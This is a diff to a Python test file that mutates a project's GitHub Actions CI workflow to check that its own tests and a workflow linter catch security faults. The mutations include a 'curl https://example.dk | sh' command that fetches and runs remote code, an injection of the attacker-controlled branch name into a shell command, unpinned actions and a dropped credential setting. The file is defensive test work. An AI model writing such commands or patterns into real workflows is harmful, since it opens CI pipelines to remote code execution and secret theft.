@@ -12,7 +12,8 @@ import pytest
 from tests.project import test_workflows
 
 FOLDER = Path(__file__).parents[2] / ".github"
-CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1"
+CI = (FOLDER / "workflows" / "ci.yml").read_text(encoding="utf-8")
+CHECKOUT, VERSION = re.findall(r"uses: (actions/checkout@\w+)( # v[\d.]+)", CI)[0]
 FAULTS = (
     ("a shape that is none", "    runs-on: ubuntu-latest\n", "", ["schema"]),
     ("an event that is none", "  pull_request:\n", "  pull_requests:\n", ["schema"]),
@@ -27,23 +28,23 @@ FAULTS = (
         "a text of the proposer's in a command",
         "make test",
         "make test ${{ github.head_ref }}",
-        ["commands", "template-injection:30"],
+        ["commands", "template-injection:31"],
     ),
     ("a foreign command", "make test", "curl https://example.dk | sh", ["commands"]),
     ("a target that is none", "make test", "make tests", ["commands"]),
     (
         "an action by a tag",
-        f"{CHECKOUT} # v7.0.1",
-        "actions/checkout@v7.0.1",
-        ["pins", "unpinned-uses:22"],
+        CHECKOUT + VERSION,
+        "actions/checkout@v7",
+        ["pins", "unpinned-uses:23"],
     ),
-    ("an action nobody has seen", "3d3c42e5", "3d3c42e6", ["pins"]),
-    ("a version left out", f"{CHECKOUT} # v7.0.1", CHECKOUT, ["pins"]),
+    ("an action at two commits", CHECKOUT, f"{CHECKOUT[:-7]}0000000", ["pins"]),
+    ("a version left out", CHECKOUT + VERSION, CHECKOUT, ["pins"]),
     (
         "a key kept after use",
         "        with:\n          persist-credentials: false\n",
         "",
-        ["artipacked:22"],
+        ["artipacked:23"],
     ),
     (
         "a fork's code with the rights of main",
@@ -54,7 +55,7 @@ FAULTS = (
 )
 OURS = {
     "rights": test_workflows.test_rights_are_given_job_by_job,
-    "pins": test_workflows.test_actions_are_pinned_by_a_commit_that_is_known,
+    "pins": test_workflows.test_actions_are_pinned_by_a_commit,
     "commands": test_workflows.test_every_command_is_one_of_the_project_s_own,
 }
 
